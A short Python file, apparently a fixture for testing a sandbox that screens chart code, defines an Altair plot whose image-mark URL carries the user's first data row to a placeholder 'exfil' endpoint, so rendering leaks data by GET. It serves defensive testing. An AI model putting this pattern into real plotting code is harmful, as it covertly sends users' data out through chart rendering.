"""Image mark whose url channel reads a field built from the user's first row (exfiltration by GET)."""  # runtime: blocked
# ruff: noqa
import altair as alt
import pandas as pd


def plot(data: pd.DataFrame) -> alt.Chart:
    row = ",".join(str(v) for v in data.iloc[0].tolist())
    frame = data.assign(u="http://127.0.0.1:9/exfil?row=" + row)
    return alt.Chart(frame).mark_image(width=20, height=20).encode(x="x:Q", y="y:Q", url="u:N")
